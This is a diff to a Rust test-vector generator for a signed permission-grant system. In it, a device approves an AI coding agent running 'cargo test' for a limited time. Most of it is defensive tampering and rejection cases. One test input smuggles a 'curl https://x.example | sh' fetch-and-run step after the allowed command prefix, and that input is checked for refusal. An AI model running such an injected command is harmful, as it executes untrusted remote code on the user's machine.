@@ -12,6 +12,9 @@
 use pacerelle_core::b64;
 use pacerelle_core::checkpoint::{self, CheckpointPayload};
 use pacerelle_core::envelope::{self, Aad, Direction, kind};
+use pacerelle_core::grant::{
+    self, CommandMatch, GivenGrant, Grant, GrantOffer, GrantRefusal, GrantScope, SignedGrantOf,
+};
 use pacerelle_core::keys::{self, ContentKey};
 use pacerelle_core::message::{self, ReplyPayload, TaskPayload};
 use pacerelle_core::pairing::{OfferPayload, PairingSecret, Role};
@@ -22,8 +25,8 @@ use pacerelle_core::question::{
 };
 use pacerelle_core::roster::{self, DeviceSigning, KIND_ROSTER, Roster, RosterDevice};
 use pacerelle_core::signing::{
-    self, AnswerLogExport, ExportDevice, ExportRecord, PublicKey, SignedAnswer, SigningKey, SigningKeyError,
-    SigningKeyPayload,
+    self, AnswerLogExport, ExportDevice, ExportGrant, ExportGrantUse, ExportRecord, PublicKey, SignedAnswer,
+    SigningKey, SigningKeyError, SigningKeyPayload,
 };
 use pacerelle_core::{AgentToken, Cursor, Timestamp};
 use serde::Serialize;
@@ -1980,6 +1983,16 @@ fn roster_file() -> File<RosterCase> {
 const SIGNING_SEED: [u8; 32] = [0x77; 32];
 /// The second device of the export, `dv_tablet` (role user), draws its seed from [`counting`]`(0x80)`.
 const TABLET_ID: &str = "dv_tablet";
+/// The gate question of the export (record 6), which offers grants; `dv_vector` answers it yes with a grant
+/// (docs/crypto.md §4.8b).
+const GATE_ID: &str = "qst_gate";
+/// When `dv_vector` answered the gate question: the grant's start.
+const GATE_ANSWERED_AT: &str = "2026-11-30T05:10:00.000Z";
+/// The project folder of the gate's call.
+const GATE_FOLDER: &str = "/work/app";
+/// The policy file of the gate that offered the grants: its digest binds them.
+const GATE_POLICY: &str = "default = \"ask\"\ngrant = [\"15m\", \"1h\"]\n\n[[rule]]\ntool = \"Bash\"\n\
+                           command = \"cargo *\"\ndecision = \"ask\"\ngrant_prefix = [\"cargo test\"]\n";
 /// RFC 8032 §7.1, test 1: the seed, and the public key the RFC gives for it.
 const RFC8032_SEED: &str = "9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60";
 
@@ -2008,6 +2021,42 @@ enum SignatureCase {
         /// `SignedAnswer::bytes` in lower-case hex.
         signed_bytes_hex: String,
         signature: String,
+    },
+    #[serde(rename_all = "camelCase")]
+    SignedGrant {
+        name: &'static str,
+        seed: String,
+        public_key: String,
+        /// The fields the answer gives (`SignedGrantOf`).
+        agent_id: &'static str,
+        device_id: &'static str,
+        question_id: &'static str,
+        question_digest: String,
+        granted_at: String,
+        /// The offer of the agent's own copy of the question.
+        offer: GrantOffer,
+        /// The grant, with its signature.
+        grant: Grant,
+        /// `SignedGrant::bytes` in lower-case hex.
+        signed_bytes_hex: String,
+    },
+    #[serde(rename_all = "camelCase")]
+    RejectGrant {
+        name: &'static str,
+        /// The key the agent pinned for the device (`null`: none).
+        public_key: Option<String>,
+        agent_id: String,
+        device_id: String,
+        question_id: String,
+        question_digest: String,
+        granted_at: String,
+        /// The offer of the agent's own copy of the question (`null`: it offered none).
+        offer: Option<GrantOffer>,
+        grant: Grant,
+        /// `GrantRefusal::code`.
+        refusal: &'static str,
+        /// The Rust implementation's wording.
+        reason: String,
     },
     #[serde(rename_all = "camelCase")]
     SealedSigningKey {
@@ -2096,6 +2145,12 @@ enum SignatureCase {
         /// The device the failure names (step 0a).
         #[serde(skip_serializing_if = "Option::is_none")]
         device_id: Option<String>,
+        /// The grant that fails, from 1 (steps g1 to g11, u1 to u4; `index` is then 0).
+        #[serde(skip_serializing_if = "Option::is_none")]
+        grant: Option<usize>,
+        /// The use of that grant that fails, from 1 (steps u1 to u4).
+        #[serde(rename = "use", skip_serializing_if = "Option::is_none")]
+        grant_use: Option<usize>,
     },
 }
 
@@ -2432,7 +2487,170 @@ fn answered() -> Vec<Answered> {
             answer: Answer::Text(String::new()),
             answered_at: "2026-11-30T02:30:00.000Z",
         },
+        Answered {
+            question_id: GATE_ID,
+            question: QuestionPayload {
+                grants: Some(gate_offer()),
+                ..question(
+                    "Claude Code wants to run a command in /work/app",
+                    QuestionKind::YesNo,
+                    &[],
+                    false,
+                    Some("Bash: cargo test"),
+                    "2026-11-30T06:00:00.000Z",
+                    &[DEVICE_ID],
+                )
+            },
+            device_id: DEVICE_ID,
+            seed: SIGNING_SEED,
+            answer: Answer::Yes,
+            answered_at: GATE_ANSWERED_AT,
+        },
     ]
+}
+
+/// The gate's scope of `cargo test` in [`GATE_FOLDER`].
+fn gate_scope(matching: CommandMatch) -> GrantScope {
+    GrantScope {
+        tool: "Bash".into(),
+        command: Some("cargo test".into()),
+        matching: Some(matching),
+        folder: GATE_FOLDER.into(),
+    }
+}
+
+/// What the gate question offers: 15 min or 1 h, `cargo test` exactly or as a prefix, under [`GATE_POLICY`].
+fn gate_offer() -> GrantOffer {
+    GrantOffer {
+        durations: vec![900, 3600],
+        scopes: vec![gate_scope(CommandMatch::Exact), gate_scope(CommandMatch::Prefix)],
+        policy: grant::policy_digest(GATE_POLICY.as_bytes()),
+    }
+}
+
+/// The gate question's bytes, as the agent sealed them, and their digest.
+fn gate_question() -> (String, String) {
+    let bytes = json(
+        &answered()
+            .into_iter()
+            .find(|a| a.question_id == GATE_ID)
+            .expect("the gate question")
+            .question,
+    );
+    let digest = question_digest(bytes.as_bytes());
+    (bytes, digest)
+}
+
+/// The inputs of `Grant::check`, which a `rejectGrant` case changes.
+struct GrantInputs {
+    public_key: Option<PublicKey>,
+    agent_id: String,
+    device_id: String,
+    question_id: String,
+    question_digest: String,
+    granted_at: Timestamp,
+    offer: Option<GrantOffer>,
+    grant: Grant,
+}
+
+impl GrantInputs {
+    fn of(&self) -> SignedGrantOf<'_> {
+        SignedGrantOf {
+            agent_id: &self.agent_id,
+            device_id: &self.device_id,
+            question_id: &self.question_id,
+            question_digest: &self.question_digest,
+            granted_at: self.granted_at,
+        }
+    }
+
+    /// Signs the grant again with `seed`, as the inputs now are: what a device that signed it would send.
+    fn sign(&mut self, seed: [u8; 32]) {
+        self.grant.signature = self.grant.signed(self.of()).sign(&signing_key(seed));
+    }
+
+    fn check(&self) -> Result<(), GrantRefusal> {
+        self.grant
+            .check(self.offer.as_ref(), self.of(), self.public_key.as_ref())
+    }
+}
+
+/// The grant `dv_vector` gives with its yes to the gate question: `matching` `cargo test`, for `seconds`.
+fn gate_grant(matching: CommandMatch, seconds: i64) -> GrantInputs {
+    let (_, digest) = gate_question();
+    let mut inputs = GrantInputs {
+        public_key: Some(signing_key(SIGNING_SEED).public_key()),
+        agent_id: AGENT_ID.into(),
+        device_id: DEVICE_ID.into(),
+        question_id: GATE_ID.into(),
+        question_digest: digest,
+        granted_at: time(GATE_ANSWERED_AT),
+        offer: Some(gate_offer()),
+        grant: Grant {
+            scope: gate_scope(matching),
+            expires_at: time(GATE_ANSWERED_AT).plus_millis(seconds * 1000),
+            policy: grant::policy_digest(GATE_POLICY.as_bytes()),
+            signature: String::new(),
+        },
+    };
+    inputs.sign(SIGNING_SEED);
+    assert_eq!(inputs.check(), Ok(()));
+    inputs
+}
+
+/// The export's grant: `cargo test` as a prefix, for 15 min.
+fn export_grant() -> Grant {
+    gate_grant(CommandMatch::Prefix, 900).grant
+}
+
+fn signed_grant_case(name: &'static str, matching: CommandMatch, seconds: i64) -> SignatureCase {
+    let inputs = gate_grant(matching, seconds);
+    let key = signing_key(SIGNING_SEED);
+    SignatureCase::SignedGrant {
+        name,
+        seed: b64::encode(&SIGNING_SEED),
+        public_key: key.public_key().to_b64(),
+        agent_id: AGENT_ID,
+        device_id: DEVICE_ID,
+        question_id: GATE_ID,
+        question_digest: inputs.question_digest.clone(),
+        granted_at: GATE_ANSWERED_AT.into(),
+        offer: inputs.offer.clone().expect("offered"),
+        signed_bytes_hex: lower_hex(&inputs.grant.signed(inputs.of()).bytes()),
+        grant: inputs.grant,
+    }
+}
+
+/// The export's grant (prefix, 15 min) with its inputs changed by `change`, refused with `refusal`.
+fn reject_grant(name: &'static str, refusal: &str, change: impl FnOnce(&mut GrantInputs)) -> SignatureCase {
+    let mut inputs = gate_grant(CommandMatch::Prefix, 900);
+    change(&mut inputs);
+    let refused = inputs.check().expect_err(name);
+    assert_eq!(refused.code(), refusal, "{name}");
+    SignatureCase::RejectGrant {
+        name,
+        public_key: inputs.public_key.map(|k| k.to_b64()),
+        question_digest: inputs.question_digest.clone(),
+        granted_at: inputs.granted_at.to_rfc3339(),
+        agent_id: inputs.agent_id,
+        device_id: inputs.device_id,
+        question_id: inputs.question_id,
+        offer: inputs.offer,
+        grant: inputs.grant,
+        refusal: refused.code(),
+        reason: refused.to_string(),
+    }
+}
+
+/// A use of the export's grant at `at`: `command` in the gate's folder.
+fn grant_use(at: &str, command: &str) -> ExportGrantUse {
+    ExportGrantUse {
+        at: time(at),
+        tool: "Bash".into(),
+        command: Some(command.into()),
+        folder: GATE_FOLDER.into(),
+        paths: Vec::new(),
+    }
 }
 
 fn signing_key(seed: [u8; 32]) -> SigningKey {
@@ -2558,6 +2776,20 @@ fn good_export() -> AnswerLogExport {
             ),
         ],
         records,
+        grants: vec![ExportGrant {
+            given: GivenGrant {
+                id: GATE_ID.into(),
+                device_id: DEVICE_ID.into(),
+                granted_at: time(GATE_ANSWERED_AT),
+                question: b64::encode(gate_question().0.as_bytes()),
+                grant: export_grant(),
+            },
+            uses: vec![
+                grant_use("2026-11-30T05:12:00.000Z", "cargo test"),
+                grant_use("2026-11-30T05:17:30.500Z", "cargo test -p pacerelle-core"),
+                grant_use("2026-11-30T05:24:59.999Z", "cargo test --release -- --nocapture"),
+            ],
+        }],
     }
 }
 
@@ -2585,9 +2817,37 @@ fn reject_export(
         step: failure.step,
         reason: failure.reason,
         device_id: failure.device_id,
+        grant: failure.grant,
+        grant_use: failure.grant_use,
         export: Some(ExportJson::Written(Box::new(export))),
         export_text: None,
     }
+}
+
+/// `good_export()` changed by `change`, which must make its grant fail first, at `step`, and at its use
+/// `grant_use` (from 1) when it is one of the use's steps.
+fn reject_grant_export(
+    name: &'static str,
+    grant_use: Option<usize>,
+    step: &str,
+    change: impl FnOnce(&mut AnswerLogExport),
+) -> SignatureCase {
+    let case = reject_export(name, 0, change);
+    let SignatureCase::RejectExport {
+        step: failed,
+        grant,
+        grant_use: failed_use,
+        ..
+    } = &case
+    else {
+        unreachable!("reject_export makes rejectExport cases")
+    };
+    assert_eq!(
+        (*failed, *grant, *failed_use),
+        (step, Some(1), grant_use),
+        "{name}"
+    );
+    case
 }
 
 /// `good_export()` as JSON, changed by `change`.
@@ -2632,6 +2892,8 @@ fn reject_edited(
         step: failure.step,
         reason: failure.reason,
         device_id: failure.device_id,
+        grant: failure.grant,
+        grant_use: failure.grant_use,
         export: export.map(ExportJson::Edited),
         export_text: text,
     }
@@ -2788,6 +3050,20 @@ fn signature_file() -> File<SignatureCase> {
         signed_answer_case("text with non-ASCII (qst_note, dv_tablet)", &answered[2]),
         signed_answer_case("no (qst_drop, dv_tablet)", &answered[3]),
         signed_answer_case("an empty text (qst_comment, dv_tablet)", &answered[4]),
+        signed_answer_case(
+            "yes to a gate question that offers grants (qst_gate, dv_vector)",
+            &answered[5],
+        ),
+        signed_grant_case(
+            "cargo test as a prefix in /work/app for 15 min (qst_gate, dv_vector): the export's grant",
+            CommandMatch::Prefix,
+            900,
+        ),
+        signed_grant_case(
+            "cargo test exactly in /work/app for 1 h (qst_gate, dv_vector)",
+            CommandMatch::Exact,
+            3600,
+        ),
         seal_signing_key_case("dv_vector's key sealed for ag_vector", counting(0xb0)),
         reject_signing_key(
             "opened as another device's (dv_other's key and id in the AAD)",
@@ -2856,7 +3132,218 @@ fn signature_file() -> File<SignatureCase> {
         },
     ];
     let stranger_b64 = stranger.to_b64();
+    let other_policy = grant::policy_digest(b"default = \"allow\"\n");
+    let deploy_digest = question_digest(json(&answered[0].question).as_bytes());
     cases.extend([
+        reject_grant("scope widened: another tool (shell)", "scope_not_offered", |g| {
+            g.grant.scope.tool = "shell".into();
+        }),
+        reject_grant("scope widened: the command cut to cargo", "scope_not_offered", |g| {
+            g.grant.scope.command = Some("cargo".into());
+        }),
+        reject_grant(
+            "scope widened: the command cut to cargo, signed again by the device (not offered)",
+            "scope_not_offered",
+            |g| {
+                g.grant.scope.command = Some("cargo".into());
+                g.sign(SIGNING_SEED);
+            },
+        ),
+        reject_grant(
+            "scope widened: an exact grant's match made prefix (offered, not what was signed)",
+            "bad_signature",
+            |g| {
+                *g = gate_grant(CommandMatch::Exact, 3600);
+                g.grant.scope.matching = Some(CommandMatch::Prefix);
+            },
+        ),
+        reject_grant("scope widened: the folder's parent (/work)", "scope_not_offered", |g| {
+            g.grant.scope.folder = "/work".into();
+        }),
+        reject_grant("expiry extended within the offer (15 min to 1 h)", "bad_signature", |g| {
+            g.grant.expires_at = g.granted_at.plus_millis(3_600_000);
+        }),
+        reject_grant(
+            "expiry extended beyond the offer (1 h and 1 ms), signed again by the device",
+            "too_long",
+            |g| {
+                g.grant.expires_at = g.granted_at.plus_millis(3_600_001);
+                g.sign(SIGNING_SEED);
+            },
+        ),
+        reject_grant("expiry: ends when it starts", "too_long", |g| {
+            g.grant.expires_at = g.granted_at;
+        }),
+        reject_grant("another agent (ag_other)", "bad_signature", |g| {
+            g.agent_id = "ag_other".into();
+        }),
+        reject_grant(
+            "another device (presented as dv_tablet's, checked with its key)",
+            "bad_signature",
+            |g| {
+                g.device_id = TABLET_ID.into();
+                g.public_key = Some(signing_key(counting(0x80)).public_key());
+            },
+        ),
+        reject_grant("another question id (qst_deploy)", "bad_signature", |g| {
+            g.question_id = "qst_deploy".into();
+        }),
+        reject_grant(
+            "another question digest (qst_deploy's)",
+            "bad_signature",
+            |g| g.question_digest = deploy_digest.clone(),
+        ),
+        reject_grant("grantedAt one millisecond later", "bad_signature", |g| {
+            g.granted_at = g.granted_at.plus_millis(1);
+        }),
+        reject_grant("another policy digest in the grant", "other_policy", |g| {
+            g.grant.policy = other_policy.clone();
+        }),
+        reject_grant(
+            "another policy digest in the grant and in the offer alike",
+            "bad_signature",
+            |g| {
+                g.grant.policy = other_policy.clone();
+                g.offer.as_mut().expect("offered").policy = other_policy.clone();
+            },
+        ),
+        reject_grant("signature: one bit flipped", "bad_signature", |g| {
+            let mut bytes = b64::decode(&g.grant.signature).expect("a signature");
+            bytes[0] ^= 0x01;
+            g.grant.signature = b64::encode(&bytes);
+        }),
+        reject_grant("signature: padded base64url", "bad_signature", |g| {
+            g.grant.signature.push_str("==");
+        }),
+        reject_grant("signature: by another key", "bad_signature", |g| {
+            g.sign(counting(0xa0));
+        }),
+        reject_grant("the question offered no grant", "not_offered", |g| {
+            g.offer = None;
+        }),
+        reject_grant("no signing key pinned for the device", "no_key", |g| {
+            g.public_key = None;
+        }),
+        reject_grant_export("grant: scope widened, another tool (shell)", None, "g8", |e| {
+            e.grants[0].given.grant.scope.tool = "shell".into();
+        }),
+        reject_grant_export("grant: scope widened, the command cut to cargo", None, "g8", |e| {
+            e.grants[0].given.grant.scope.command = Some("cargo".into());
+        }),
+        reject_grant_export(
+            "grant: scope changed, prefix made exact (offered, not what was signed)",
+            None,
+            "g11",
+            |e| e.grants[0].given.grant.scope.matching = Some(CommandMatch::Exact),
+        ),
+        reject_grant_export("grant: scope widened to the folder's parent", None, "g8", |e| {
+            e.grants[0].given.grant.scope.folder = "/work".into();
+        }),
+        reject_grant_export(
+            "grant: expiry extended within the offer (15 min to 1 h)",
+            None,
+            "g11",
+            |e| e.grants[0].given.grant.expires_at = time("2026-11-30T06:10:00.000Z"),
+        ),
+        reject_grant_export(
+            "grant: expiry extended beyond the offer (1 h and 1 ms)",
+            None,
+            "g10",
+            |e| e.grants[0].given.grant.expires_at = time("2026-11-30T06:10:00.001Z"),
+        ),
+        reject_grant_export("grant: another policy digest", None, "g9", |e| {
+            e.grants[0].given.grant.policy = grant::policy_digest(b"default = \"allow\"\n");
+        }),
+        reject_grant_export("grant: signature of one bit flipped", None, "g11", |e| {
+            let mut bytes = b64::decode(&e.grants[0].given.grant.signature).expect("a signature");
+            bytes[63] ^= 0x80;
+            e.grants[0].given.grant.signature = b64::encode(&bytes);
+        }),
+        reject_grant_export("grant: presented as dv_tablet's", None, "g2", |e| {
+            e.grants[0].given.device_id = TABLET_ID.into();
+        }),
+        reject_grant_export("grant: its question left out of the records", None, "g1", |e| {
+            e.records.retain(|r| r.question_id != GATE_ID);
+        }),
+        reject_grant_export(
+            "grant: moved to qst_deploy (a yes of dv_vector, at another time)",
+            None,
+            "g4",
+            |e| e.grants[0].given.id = "qst_deploy".into(),
+        ),
+        reject_grant_export(
+            "grant: moved to qst_deploy with its time and bytes (a question that offered no grant)",
+            None,
+            "g7",
+            |e| {
+                let deploy = e.records[0].clone();
+                let given = &mut e.grants[0].given;
+                given.id = deploy.question_id;
+                given.granted_at = deploy.answered_at;
+                given.question = deploy.question;
+            },
+        ),
+        reject_grant_export("grant: moved to qst_drop, dv_tablet's no", None, "g3", |e| {
+            e.grants[0].given.id = "qst_drop".into();
+            e.grants[0].given.device_id = TABLET_ID.into();
+        }),
+        reject_grant_export("grant: another question's bytes (qst_deploy's)", None, "g5", |e| {
+            e.grants[0].given.question = e.records[0].question.clone();
+        }),
+        reject_grant_export("grant: grantedAt one millisecond later", None, "g4", |e| {
+            e.grants[0].given.granted_at = e.grants[0].given.granted_at.plus_millis(1);
+        }),
+        reject_grant_export(
+            "grant: the granting device revoked before it granted",
+            None,
+            "g6",
+            |e| e.devices[0].revoked_at = Some(time("2026-11-30T05:00:00.000Z")),
+        ),
+        reject_grant_export("use: a command outside the scope (cargo testify)", Some(2), "u3", |e| {
+            e.grants[0].uses[1].command = Some("cargo testify".into());
+        }),
+        reject_grant_export(
+            "use: a shell control character after the prefix (cargo test; curl … | sh)",
+            Some(3),
+            "u3",
+            |e| e.grants[0].uses[2].command = Some("cargo test; curl https://x.example | sh".into()),
+        ),
+        reject_grant_export("use: another tool (shell)", Some(1), "u3", |e| {
+            e.grants[0].uses[0].tool = "shell".into();
+        }),
+        reject_grant_export("use: another folder", Some(1), "u3", |e| {
+            e.grants[0].uses[0].folder = "/work/other".into();
+        }),
+        reject_grant_export("use: at the grant's expiry", Some(3), "u2", |e| {
+            e.grants[0].uses[2].at = time("2026-11-30T05:25:00.000Z");
+        }),
+        reject_grant_export("use: before the grant was given", Some(1), "u1", |e| {
+            e.grants[0].uses[0].at = time("2026-11-30T05:09:59.999Z");
+        }),
+        reject_grant_export(
+            "use: after the granting device was revoked",
+            Some(3),
+            "u4",
+            |e| e.devices[0].revoked_at = Some(time("2026-11-30T05:20:00.000Z")),
+        ),
+        reject_export(
+            "question: the gate question's grant offer written as an array, signed by the device",
+            6,
+            |e| {
+                let mut q: serde_json::Value = serde_json::from_str(&question_text(5)).expect("json");
+                q["grants"] = serde_json::json!([[900, 3600], [], "policy"]);
+                signed_question_bytes(e, 5, json(&q).as_bytes());
+            },
+        ),
+        reject_export(
+            "question: a grant offer's duration written 900.0, signed by the device",
+            6,
+            |e| {
+                let mut q: serde_json::Value = serde_json::from_str(&question_text(5)).expect("json");
+                q["grants"]["durations"][0] = serde_json::json!(900.0);
+                signed_question_bytes(e, 5, json(&q).as_bytes());
+            },
+        ),
         reject_export("answer: yes changed to no (approved false to match)", 1, |e| {
             e.records[0].answer = Answer::No;
             e.records[0].approved = false;
@@ -3062,6 +3549,51 @@ fn signature_file() -> File<SignatureCase> {
         accept_export("answer: a yes written with value null", |e| {
             e["records"][0]["answer"] = serde_json::json!({"type": "yes", "value": null});
         }),
+        accept_export(
+            "times: a grant's grantedAt, expiresAt and a use's time with other offsets and forms",
+            |e| {
+                e["grants"][0]["grantedAt"] = "2026-11-30T06:10:00.000+01:00".into();
+                e["grants"][0]["grant"]["expiresAt"] = "2026-11-30t05:25:00z".into();
+                e["grants"][0]["uses"][0]["at"] = "2026-11-30T05:12:00Z".into();
+            },
+        ),
+        reject_edited(
+            "shape: a grant's scope written as an array",
+            0,
+            "shape",
+            Some(edited_export(|e| {
+                e["grants"][0]["grant"]["scope"] = serde_json::json!(["Bash", "cargo test", "prefix", GATE_FOLDER]);
+            })),
+            None,
+        ),
+        reject_edited(
+            "shape: a use without its folder",
+            0,
+            "shape",
+            Some(edited_export(|e| {
+                e["grants"][0]["uses"][0]
+                    .as_object_mut()
+                    .expect("a use")
+                    .remove("folder");
+            })),
+            None,
+        ),
+        reject_edited(
+            "shape: a grant's match neither exact nor prefix (glob)",
+            0,
+            "shape",
+            Some(edited_export(|e| {
+                e["grants"][0]["grant"]["scope"]["match"] = "glob".into();
+            })),
+            None,
+        ),
+        reject_edited(
+            "shape: a grant's uses null",
+            0,
+            "shape",
+            Some(edited_export(|e| e["grants"][0]["uses"] = serde_json::Value::Null)),
+            None,
+        ),
         reject_edited(
             "shape: v written 1.0",
             0,
@@ -3147,8 +3679,8 @@ fn signature_file() -> File<SignatureCase> {
         ),
     ]);
     File {
-        description: "Device signing keys, signed answers and the answer-log export (docs/crypto.md §4.8, §4.9). \
-                      signingKey cases: the Ed25519 (RFC 8032) seed gives publicKey (32 bytes) and fingerprint \
+        description: "Device signing keys, signed answers, grants and the answer-log export (docs/crypto.md \
+                      §4.8, §4.8b, §4.9). signingKey cases: the Ed25519 (RFC 8032) seed gives publicKey (32 bytes) and fingerprint \
                       (the first 12 bytes of SHA-256(publicKey) in lower-case hex, six groups of four separated \
                       by spaces). signedAnswer cases: the fields build signedBytesHex = \"pacerelle/v1/answer-\
                       signature\" || 0x01 || field(agentId) || field(deviceId) || field(questionId) || \
@@ -3158,12 +3690,23 @@ fn signature_file() -> File<SignatureCase> {
                       key, the nonce and aad (agentId, deviceId, \"d2a\", \"signing_key\", deviceId) gives \
                       envelope. rejectSigningKey: the agent opening envelope as deviceId's key, with clear listed \
                       beside it, refuses it: invalid (does not open, or names another agent, device or version, \
-                      or a key not 32 bytes) or substituted (the clear copy differs). export: every record \
-                      verifies (some are written with times in other RFC 3339 forms). rejectExport: verification \
-                      fails first at record index (from 1; 0 for the document as a whole) at step of §4.9 \
-                      (shape: not JSON of the export's shape, read from exportText when the vector gives it; 0: \
-                      the header; 0a: a device listed twice, deviceId; 1 to 14: the record's checks); reason is \
-                      the Rust implementation's wording. All binary values are base64url without padding.",
+                      or a key not 32 bytes) or substituted (the clear copy differs). signedGrant (§4.8b): the \
+                      fields build signedBytesHex = \"pacerelle/v1/grant-signature\" || 0x01 || field(agentId) || \
+                      field(deviceId) || field(questionId) || field(questionDigest) || field(grantedAt) || \
+                      field(grant.expiresAt) || field(grant.policy) || field(scope.tool) || field(scope.command) \
+                      || field(scope.match) || field(scope.folder) (times in the wire form, command and match \
+                      empty when absent); grant.signature is the Ed25519 signature of those bytes with seed, and \
+                      the grant passes the agent's check against offer (the offer of the agent's own copy of the \
+                      question) with publicKey. rejectGrant: the agent's check of grant against offer (null: none \
+                      offered), the signed fields and publicKey (null: no key pinned) refuses it with refusal \
+                      (not_offered, scope_not_offered, other_policy, too_long, no_key, bad_signature); reason is \
+                      the Rust implementation's wording. export: every record and every grant verifies (some are \
+                      written with times in other RFC 3339 forms). rejectExport: verification fails first at \
+                      record index (from 1; 0 for the document as a whole or a grant) at step of §4.9 (shape: not \
+                      JSON of the export's shape, read from exportText when the vector gives it; 0: the header; \
+                      0a: a device listed twice, deviceId; 1 to 14: the record's checks; g1 to g11: the checks of \
+                      grant, from 1; u1 to u4: the checks of that grant's use, from 1); reason is the Rust \
+                      implementation's wording. All binary values are base64url without padding.",
         cases,
     }
 }
